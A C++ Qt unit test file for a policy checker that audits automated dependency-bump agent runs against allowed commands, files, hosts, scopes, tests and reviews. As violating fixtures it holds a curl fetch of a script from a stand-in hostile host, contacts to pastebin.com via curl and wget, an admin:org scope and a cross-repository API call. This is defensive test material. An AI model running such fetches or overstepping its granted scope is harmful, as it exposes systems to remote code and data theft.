// The conformance rules, one passing and one violating run each: a clean run of a
// dependency-bump template, changed in one place per row.
#include "policy/rules.h"
#include "records/templatespec.h"

#include <QSet>
#include <QTest>
#include <QTimeZone>

#include <functional>

using namespace Qt::StringLiterals;
using namespace Tasktrail;

namespace {

QDateTime at(const char *time, int day = 2)
{
    return QDateTime(QDate(2026, 3, day), QTime::fromString(QString::fromLatin1(time)),
                     QTimeZone::utc());
}

CommandRecord command(int seq, const QString &line, const QDateTime &start = {},
                      const QDateTime &end = {})
{
    return {u"T-1"_s, seq, line.split(u' '), u"/work"_s, 0, start, end};
}

TestResult test(const QString &name, const QString &outcome, int seq)
{
    return {u"T-1"_s, name, outcome, seq, 1200};
}

TaskChain cleanRun()
{
    TaskChain c;
    TaskRecord &t = c.task;
    t.id = u"T-1"_s;
    t.repo = u"acme/web"_s;
    t.requestId = u"R-1"_s;
    t.identityId = u"I-1"_s;
    t.templateId = u"deps-bump"_s;
    t.templateVersion = u"3"_s;
    t.policyId = u"agents"_s;
    t.policyVersion = u"7"_s;
    t.state = TaskState::Completed;
    t.createdAt = at("10:00");
    t.startedAt = at("10:01");
    t.completedAt = at("10:31");
    t.retries = 0;
    t.commands = {command(1, u"npm ci"_s, at("10:02"), at("10:05")),
                  command(2, u"npm test"_s, at("10:05"), at("10:10")),
                  command(3, u"git push origin deps/bump"_s, at("10:11"), at("10:12"))};
    t.tests = {test(u"unit/api"_s, u"passed"_s, 2), test(u"unit/web"_s, u"passed"_s, 2)};
    t.filesChanged = {{u"T-1"_s, u"package.json"_s, u"modified"_s, 3, 2},
                      {u"T-1"_s, u"package-lock.json"_s, u"modified"_s, 40, 30}};
    t.contacts = {{u"T-1"_s, u"registry.npmjs.org"_s, u"npm"_s, u"install"_s, at("10:03")}};
    c.request = RequestRecord{u"R-1"_s, u"bump lodash"_s, u"alice"_s, u"portal"_s, {}, at("09:58")};
    c.identity = IdentityRecord{
        u"I-1"_s,   IdentityKind::GitHubAppInstallationToken,        u"svc-deps[bot]"_s,
        u"alice"_s, {u"contents:write"_s, u"pull_requests:write"_s}, u"aGFzaA=="_s,
        {}};
    PullRequestRecord pr;
    pr.repo = t.repo;
    pr.number = 42;
    pr.state = u"closed"_s;
    pr.author = u"svc-deps[bot]"_s;
    pr.labels = {u"dependencies"_s, u"agent"_s};
    pr.requestedReviewers = {u"bob"_s};
    pr.requestedTeams = {u"web-platform"_s};
    pr.createdAt = at("10:15");
    pr.mergedBy = u"carol"_s;
    pr.mergedAt = at("12:00");
    c.pullRequest = pr;
    c.reviews = {{1, t.repo, 42, u"bob"_s, u"APPROVED"_s, u"abc"_s, at("11:00")}};
    return c;
}

TemplateSpec depsBump()
{
    TemplateSpec s;
    s.id = u"deps-bump"_s;
    s.version = u"3"_s;
    s.allowedFiles = {u"**/package.json"_s, u"**/package-lock.json"_s, u"src/**"_s};
    s.deniedFiles = {u".github/**"_s};
    s.approvalFiles = {u"**/.npmrc"_s};
    s.allowedCommands = {u"npm ci"_s, u"npm test"_s, u"npm run *"_s, u"git push **"_s,
                         u"gh pr create **"_s};
    s.approvalCommands = {u"npm publish*"_s};
    s.requiredTests = {u"unit/*"_s};
    s.allowedHosts = {u"registry.npmjs.org"_s, u"*.github.com"_s};
    s.labels = {u"dependencies"_s};
    s.reviewers = {u"acme/web-platform"_s};
    s.maxRetries = 2;
    s.maxRuntimeMs = 60 * 60 * 1000;
    s.maxFilesChanged = 10;
    s.maxLinesChanged = 500;
    s.freezes = {{u"release-26.3"_s, at("00:00", 10), at("00:00", 17), {u"acme/*"_s}}};
    return s;
}

PolicySpec agents()
{
    PolicySpec p;
    p.id = u"agents"_s;
    p.version = u"7"_s;
    p.grants = {{{u"deps-*"_s},
                 {IdentityKind::GitHubAppInstallationToken},
                 {u"contents:*"_s, u"pull_requests:write"_s},
                 {u"alice"_s, u"release-*"_s},
                 {u"svc-*[bot]"_s}}};
    return p;
}

struct Expected
{
    QString rule;
    Severity severity;
    EvidenceKind kind;
    QString ref;
    int seq = 0;
};

AuditEvent auditEvent(const QString &id, const QString &repo)
{
    AuditEvent e;
    e.id = id;
    e.action = u"api.request"_s;
    e.actor = u"agent-bot"_s;
    e.repo = repo;
    e.at = at("10:20");
    e.requestMethod = u"GET"_s;
    e.requestRoute = u"/repos/:owner/:repo/zipball"_s;
    return e;
}

struct Case
{
    QString name;
    TaskChain chain = cleanRun();
    std::optional<TemplateSpec> tmpl = depsBump();
    std::optional<PolicySpec> policy = agents();
    QList<Expected> expected;
};

// A case from the clean run with one change.
Case change(const QString &name, const std::function<void(Case &)> &edit,
            const QList<Expected> &expected = {})
{
    Case c;
    c.name = name;
    edit(c);
    c.expected = expected;
    return c;
}

constexpr auto High = Severity::High;
constexpr auto Medium = Severity::Medium;
constexpr auto Low = Severity::Low;

QList<Case> specCases()
{
    const auto viaCampaign = [](Case &c) {
        c.chain.campaign = CampaignRecord{
            u"C-1"_s, u"R-1"_s, u"bump"_s, u"deps-bump"_s, u"3"_s, u"agents"_s, u"7"_s, {}, {}};
        c.chain.task.campaignId = u"C-1"_s;
    };
    const auto curl = [](Case &c) {
        c.chain.task.commands << command(4, u"curl https://evil.example/x.sh"_s);
    };
    return {
        change(u"task_without_template/pass"_s,
               [&](Case &c) {
                   viaCampaign(c);
                   c.chain.task.templateId.clear();
                   c.chain.task.templateVersion.clear();
               }),
        change(u"task_without_template/violate"_s,
               [](Case &c) {
                   c.chain.task.templateId.clear();
                   c.tmpl.reset();
               },
               {{u"task_without_template"_s, Low, EvidenceKind::Task, {}}}),
        change(u"template_unknown/pass"_s, [](Case &) {}),
        change(u"template_unknown/violate"_s,
               [&](Case &c) {
                   curl(c); // template rules are skipped without the template
                   c.tmpl.reset();
               },
               {{u"template_unknown"_s, Medium, EvidenceKind::Task, u"deps-bump@3"_s}}),
        change(u"task_without_policy/pass"_s,
               [&](Case &c) {
                   viaCampaign(c);
                   c.chain.task.policyId.clear();
                   c.chain.task.policyVersion.clear();
               }),
        change(u"task_without_policy/violate"_s,
               [](Case &c) {
                   c.chain.task.policyId.clear();
                   c.policy.reset();
               },
               {{u"task_without_policy"_s, Low, EvidenceKind::Task, {}}}),
        change(u"policy_unknown/pass"_s, [](Case &) {}),
        change(u"policy_unknown/violate"_s,
               [](Case &c) {
                   c.chain.identity->principal = u"deploy-bot"_s; // policy rules are skipped
                   c.policy.reset();
               },
               {{u"policy_unknown"_s, Medium, EvidenceKind::Task, u"agents@7"_s}}),
    };
}

QList<Case> grantCases()
{
    return {
        change(u"template_not_granted/pass"_s,
               [](Case &c) { c.policy->grants[0].templates = {u"deps-bump@3"_s}; }),
        change(u"template_not_granted/violate"_s,
               [](Case &c) {
                   c.policy->grants[0].templates = {u"lint-*"_s, u"deps-bump@2"_s};
                   c.chain.identity->kind = IdentityKind::ClassicPat; // no grant: not reported
               },
               {{u"template_not_granted"_s, High, EvidenceKind::Task, u"deps-bump@3"_s}}),
        change(u"identity_kind_not_allowed/pass"_s,
               [](Case &c) {
                   c.chain.identity->kind = IdentityKind::FineGrainedPat;
                   c.policy->grants << PolicyGrant{{u"deps-bump"_s}, {}, {}, {}, {}};
               }),
        change(u"identity_kind_not_allowed/violate"_s,
               [](Case &c) { c.chain.identity->kind = IdentityKind::ClassicPat; },
               {{u"identity_kind_not_allowed"_s, High, EvidenceKind::Identity, u"classic_pat"_s}}),
        change(u"scope_not_allowed/pass"_s,
               [](Case &c) { c.chain.identity->scopes = {u"contents:read"_s}; }),
        change(u"scope_not_allowed/violate"_s,
               [](Case &c) { c.chain.identity->scopes << u"admin:org"_s << u"workflow"_s; },
               {{u"scope_not_allowed"_s, High, EvidenceKind::Identity, u"admin:org"_s},
                {u"scope_not_allowed"_s, High, EvidenceKind::Identity, u"workflow"_s}}),
        change(u"principal_not_allowed/pass"_s,
               [](Case &c) { c.chain.identity->principal = u"svc-lint[bot]"_s; }),
        change(u"principal_not_allowed/violate"_s,
               [](Case &c) { c.chain.identity->principal = u"deploy-bot"_s; },
               {{u"principal_not_allowed"_s, High, EvidenceKind::Identity, u"deploy-bot"_s}}),
        change(u"requester_not_allowed/pass"_s,
               [](Case &c) { c.chain.request->requester = u"release-train"_s; }),
        change(u"requester_not_allowed/violate"_s,
               [](Case &c) { c.chain.request->requester = u"mallory"_s; },
               {{u"requester_not_allowed"_s, High, EvidenceKind::Request, u"mallory"_s}}),
    };
}

QList<Case> commandAndFileCases()
{
    const auto addCommand = [](const QString &line) {
        return [line](Case &c) { c.chain.task.commands << command(4, line); };
    };
    const auto addFile = [](const QString &path) {
        return [path](Case &c) {
            c.chain.task.filesChanged << FileChange{u"T-1"_s, path, u"added"_s, 1, 0};
        };
    };
    const QString curl = u"curl https://evil.example/x.sh"_s;
    const QString publish = u"npm publish --access public"_s;
    return {
        change(u"command_not_allowed/pass"_s, addCommand(u"npm run build"_s)),
        change(u"command_not_allowed/violate"_s, addCommand(curl),
               {{u"command_not_allowed"_s, High, EvidenceKind::Command, curl, 4}}),
        change(u"command_needs_approval/pass"_s, addCommand(u"npm run publish-docs"_s)),
        change(u"command_needs_approval/violate"_s, addCommand(publish),
               {{u"command_needs_approval"_s, Medium, EvidenceKind::Command, publish, 4}}),
        change(u"file_out_of_scope/pass"_s, addFile(u"src/deep/index.ts"_s)),
        change(u"file_out_of_scope/violate"_s,
               [&](Case &c) {
                   addFile(u".github/workflows/ci.yml"_s)(c);
                   addFile(u"Makefile"_s)(c);
               },
               {{u"file_out_of_scope"_s, High, EvidenceKind::File, u".github/workflows/ci.yml"_s},
                {u"file_out_of_scope"_s, High, EvidenceKind::File, u"Makefile"_s}}),
        change(u"file_needs_approval/pass"_s, addFile(u"src/.npmrc.example"_s)),
        change(u"file_needs_approval/violate"_s, addFile(u".npmrc"_s),
               {{u"file_needs_approval"_s, Medium, EvidenceKind::File, u".npmrc"_s}}),
        change(u"host_not_allowed/pass"_s,
               [](Case &c) {
                   c.chain.task.contacts
                       << ExternalContact{u"T-1"_s, u"api.github.com"_s, u"gh"_s, {}, at("10:14")};
               }),
        change(u"host_not_allowed/violate"_s,
               [](Case &c) {
                   for (const QString &tool : {u"curl"_s, u"wget"_s})
                       c.chain.task.contacts
                           << ExternalContact{u"T-1"_s, u"pastebin.com"_s, tool, {}, at("10:14")};
               },
               {{u"host_not_allowed"_s, High, EvidenceKind::Contact, u"pastebin.com"_s}}),
    };
}

QList<Case> testCases()
{
    const auto failUnitApi = [](int seq) {
        return [seq](Case &c) {
            for (TestResult &r : c.chain.task.tests) {
                if (r.name == u"unit/api")
                    r = test(r.name, u"failed"_s, seq);
            }
        };
    };
    return {
        change(u"required_test_missing/pass"_s,
               [](Case &c) { c.tmpl->requiredTests << u"unit/api"_s; }),
        change(u"required_test_missing/violate"_s,
               [](Case &c) { c.tmpl->requiredTests << u"e2e/*"_s; },
               {{u"required_test_missing"_s, High, EvidenceKind::Test, u"e2e/*"_s}}),
        // A run that failed before its tests and opened no pull request delivered nothing.
        change(u"required_test_missing/pass failed early"_s,
               [](Case &c) {
                   c.tmpl->requiredTests << u"e2e/*"_s;
                   c.chain.task.state = TaskState::Failed;
                   c.chain.pullRequest.reset();
                   c.chain.reviews.clear();
                   c.chain.checkRuns.clear();
               }),
        // Failed after the push and after the PR was opened.
        change(u"required_test_failing/pass"_s,
               [&](Case &c) {
                   c.chain.task.commands << command(4, u"npm test"_s, at("10:16"), at("10:20"));
                   failUnitApi(4)(c);
               }),
        // Failed after the push but before the PR was opened.
        change(u"required_test_failing/violate"_s,
               [&](Case &c) {
                   c.chain.task.commands << command(4, u"npm test"_s, at("10:12"), at("10:14"));
                   failUnitApi(4)(c);
               },
               {{u"required_test_failing"_s, High, EvidenceKind::Test, u"unit/api"_s, 4}}),
        change(u"required_test_failing/violate without times"_s,
               [&](Case &c) {
                   c.chain.task.commands << command(4, u"npm test"_s);
                   c.chain.pullRequest->createdAt = {};
                   c.chain.task.tests << test(u"unit/db"_s, u"error"_s, 4);
               },
               {{u"required_test_failing"_s, High, EvidenceKind::Test, u"unit/db"_s, 4}}),
        // Failed, fixed, then pushed.
        change(u"pushed_after_failing_test/pass"_s,
               [&](Case &c) {
                   failUnitApi(2)(c);
                   c.chain.task.commands[2] = command(3, u"npm test"_s);
                   c.chain.task.commands << command(4, u"git push origin deps/bump"_s);
                   c.chain.task.tests << test(u"unit/api"_s, u"passed"_s, 3);
               }),
        change(u"pushed_after_failing_test/violate"_s,
               [&](Case &c) {
                   failUnitApi(2)(c);
                   c.chain.pullRequest.reset();
                   c.chain.reviews.clear();
               },
               {{u"pushed_after_failing_test"_s, High, EvidenceKind::Command,
                 u"git push origin deps/bump"_s, 3}}),
        // A command without a seq is placed by its time.
        change(u"pushed_after_failing_test/violate by time"_s,
               [&](Case &c) {
                   failUnitApi(2)(c);
                   c.chain.task.commands[2] = command(0, u"gh pr create --fill"_s, at("10:11"));
                   c.chain.pullRequest.reset();
                   c.chain.reviews.clear();
               },
               {{u"pushed_after_failing_test"_s, High, EvidenceKind::Command,
                 u"gh pr create --fill"_s, 0}}),
    };
}

QList<Case> budgetCases()
{
    return {
        change(u"retries_over_budget/pass"_s, [](Case &c) { c.chain.task.retries = 2; }),
        change(u"retries_over_budget/violate"_s, [](Case &c) { c.chain.task.retries = 3; },
               {{u"retries_over_budget"_s, Medium, EvidenceKind::Task, u"retries"_s}}),
        change(u"retries_over_budget/violate by failures"_s,
               [](Case &c) {
                   c.chain.task.retries.reset();
                   for (int seq = 1; seq <= 3; ++seq)
                       c.chain.task.failures << FailureRecord{u"T-1"_s, seq,  u"test_failure"_s,
                                                              {},       true, at("10:20")};
               },
               {{u"retries_over_budget"_s, Medium, EvidenceKind::Task, u"retries"_s}}),
        change(u"runtime_over_budget/pass"_s,
               [](Case &c) { c.chain.task.completedAt = at("11:01"); }),
        change(u"runtime_over_budget/violate"_s,
               [](Case &c) { c.chain.task.completedAt = at("11:02"); },
               {{u"runtime_over_budget"_s, Medium, EvidenceKind::Task, u"runtime"_s}}),
        change(u"files_over_budget/pass"_s, [](Case &c) { c.tmpl->maxFilesChanged = 2; }),
        change(u"files_over_budget/violate"_s, [](Case &c) { c.tmpl->maxFilesChanged = 1; },
               {{u"files_over_budget"_s, Medium, EvidenceKind::File, {}}}),
        change(u"lines_over_budget/pass"_s, [](Case &c) { c.tmpl->maxLinesChanged = 75; }),
        change(u"lines_over_budget/violate"_s, [](Case &c) { c.tmpl->maxLinesChanged = 74; },
               {{u"lines_over_budget"_s, Medium, EvidenceKind::File, {}}}),
    };
}

QList<Case> reviewCases()
{
    const auto review = [](const QString &who, const QString &state) {
        return ReviewRecord{2, u"acme/web"_s, 42, who, state, u"abc"_s, at("11:30")};
    };
    return {
        change(u"pr_missing_label/pass"_s, [](Case &c) { c.tmpl->labels = {u"Dependencies"_s}; }),
        change(u"pr_missing_label/violate"_s, [](Case &c) { c.tmpl->labels << u"security"_s; },
               {{u"pr_missing_label"_s, Low, EvidenceKind::PullRequest, u"security"_s}}),
        change(u"pr_missing_reviewer/pass"_s,
               [&](Case &c) {
                   c.tmpl->reviewers << u"erin"_s;
                   c.chain.reviews << review(u"erin"_s, u"COMMENTED"_s);
               }),
        change(u"pr_missing_reviewer/violate"_s, [](Case &c) { c.tmpl->reviewers << u"dave"_s; },
               {{u"pr_missing_reviewer"_s, Low, EvidenceKind::PullRequest, u"dave"_s}}),
        change(u"self_approved/pass"_s,
               [&](Case &c) { c.chain.reviews << review(u"alice"_s, u"COMMENTED"_s); }),
        change(u"self_approved/violate"_s,
               [&](Case &c) { c.chain.reviews << review(u"Alice"_s, u"APPROVED"_s); },
               {{u"self_approved"_s, High, EvidenceKind::Review, u"Alice"_s}}),
        change(u"self_approved/violate on behalf"_s,
               [&](Case &c) {
                   c.chain.identity->onBehalfOf = u"olivia"_s;
                   c.chain.reviews << review(u"olivia"_s, u"APPROVED"_s);
               },
               {{u"self_approved"_s, High, EvidenceKind::Review, u"olivia"_s}}),
        change(u"self_merged/pass"_s, [](Case &c) { c.chain.pullRequest->mergedBy = u"dave"_s; }),
        change(u"self_merged/violate"_s,
               [](Case &c) { c.chain.pullRequest->mergedBy = u"alice"_s; },
               {{u"self_merged"_s, High, EvidenceKind::PullRequest, u"alice"_s}}),
        change(u"api_call_outside_repository/pass"_s,
               [](Case &c) {
                   c.chain.auditEvents
                       << AuditLink{auditEvent(u"AE-1"_s, u"ACME/web"_s), u"hashed_token"_s}
                       << AuditLink{auditEvent(u"AE-2"_s, QString()), u"hashed_token"_s};
               }),
        change(u"api_call_outside_repository/violate"_s,
               [](Case &c) {
                   c.chain.auditEvents
                       << AuditLink{auditEvent(u"AE-1"_s, u"acme/web"_s), u"hashed_token"_s}
                       << AuditLink{auditEvent(u"AE-9"_s, u"globex/payroll"_s), u"token_id"_s};
               },
               {{u"api_call_outside_repository"_s, High, EvidenceKind::AuditEvent, u"AE-9"_s}}),
        // The window's end is exclusive.
        change(u"launched_in_freeze/pass"_s,
               [](Case &c) { c.chain.task.createdAt = at("00:00", 17); }),
        change(u"launched_in_freeze/pass other repository"_s,
               [](Case &c) {
                   c.chain.task.createdAt = at("09:00", 12);
                   c.chain.task.repo = u"globex/web"_s;
               }),
        change(u"launched_in_freeze/violate"_s,
               [](Case &c) {
                   c.chain.task.createdAt = {};
                   c.chain.task.startedAt = at("09:00", 12);
                   c.chain.task.completedAt = at("09:30", 12);
               },
               {{u"launched_in_freeze"_s, High, EvidenceKind::Task, u"release-26.3"_s}}),
    };
}

QList<Case> allCases()
{
    QList<Case> cases{change(u"clean run"_s, [](Case &) {})};
    cases << specCases() << grantCases() << commandAndFileCases() << testCases() << budgetCases()
          << reviewCases();
    return cases;
}

} // namespace

class TestRules final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void rules_data();
    void rules();
    void everyRuleHasBothCases();
    void findingsCarryTheCheckedVersions();

private:
    QList<Case> m_cases = allCases();
};

void TestRules::rules_data()
{
    QTest::addColumn<int>("index");
    for (int i = 0; i < m_cases.size(); ++i)
        QTest::newRow(qPrintable(m_cases[i].name)) << i;
}

void TestRules::rules()
{
    QFETCH(int, index);
    const Case &c = m_cases[index];
    const QList<Finding> findings =
        checkTask(c.chain, c.tmpl ? &*c.tmpl : nullptr, c.policy ? &*c.policy : nullptr);
    QStringList got;
    for (const Finding &f : findings)
        got << f.rule % u'|' % toString(f.severity) % u'|' % toString(f.evidenceKind) % u'|' %
                   f.evidenceRef % u'|' % QString::number(f.commandSeq);
    QStringList want;
    for (const Expected &e : c.expected)
        want << e.rule % u'|' % toString(e.severity) % u'|' % toString(e.kind) % u'|' % e.ref %
                    u'|' % QString::number(e.seq);
    QCOMPARE(got, want);
    for (const Finding &f : findings) {
        QCOMPARE(f.taskId, u"T-1"_s);
        QVERIFY(f.severity == defaultSeverity(f.rule));
        QVERIFY2(f.message.endsWith(u'.') && f.message.size() > 20, qPrintable(f.message));
    }
}

void TestRules::everyRuleHasBothCases()
{
    QSet<QString> names;
    for (const Case &c : std::as_const(m_cases))
        names << c.name;
    for (const RuleInfo &rule : conformanceRules()) {
        QVERIFY2(names.contains(rule.id % u"/pass"_s), qPrintable(rule.id));
        QVERIFY2(names.contains(rule.id % u"/violate"_s), qPrintable(rule.id));
    }
    // And no case names a rule that does not exist.
    for (const QString &name : std::as_const(names)) {
        const QString rule = name.section(u'/', 0, 0);
        if (name.contains(u'/'))
            QVERIFY2(std::any_of(conformanceRules().cbegin(), conformanceRules().cend(),
                                 [&rule](const RuleInfo &r) { return r.id == rule; }),
                     qPrintable(name));
    }
}

void TestRules::findingsCarryTheCheckedVersions()
{
    Case c = change(u"versions"_s, [](Case &x) {
        x.chain.task.commands << command(4, u"curl https://evil.example/x.sh"_s, at("10:13"));
    });
    const QList<Finding> findings = checkTask(c.chain, &*c.tmpl, &*c.policy);
    QCOMPARE(findings.size(), 1);
    const Finding &f = findings.constFirst();
    QCOMPARE(f.templateId, u"deps-bump"_s);
    QCOMPARE(f.templateVersion, u"3"_s);
    QCOMPARE(f.policyId, u"agents"_s);
    QCOMPARE(f.policyVersion, u"7"_s);
    QCOMPARE(f.at, at("10:13"));
    QCOMPARE(f.message, u"Command 4 `curl https://evil.example/x.sh` matches none of template "
                        "deps-bump@3's allowed commands."_s);
}

QTEST_GUILESS_MAIN(TestRules)
#include "tst_rules.moc"
